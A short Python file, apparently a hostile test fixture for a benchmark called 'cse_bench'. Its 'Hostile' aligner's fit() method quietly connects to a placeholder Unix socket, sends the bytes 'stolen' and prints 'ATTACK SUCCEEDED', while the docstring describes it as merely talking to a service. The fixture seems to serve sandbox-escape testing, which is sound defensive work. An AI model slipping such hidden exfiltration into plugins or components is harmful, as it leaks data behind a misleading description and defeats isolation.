"""Talk to a service by its Unix socket."""

import socket

from cse_bench import Aligner


def attack():
    with socket.socket(socket.AF_UNIX) as away:
        away.connect("__UNIX__")
        away.sendall(b"stolen")
    return "sent"


class Hostile(Aligner):
    name = "hostile"

    def fit(self, source, target, evidence):
        print("ATTACK", "SUCCEEDED:", attack())
        return self

    def transform(self, shop):
        return shop.vectors * 2
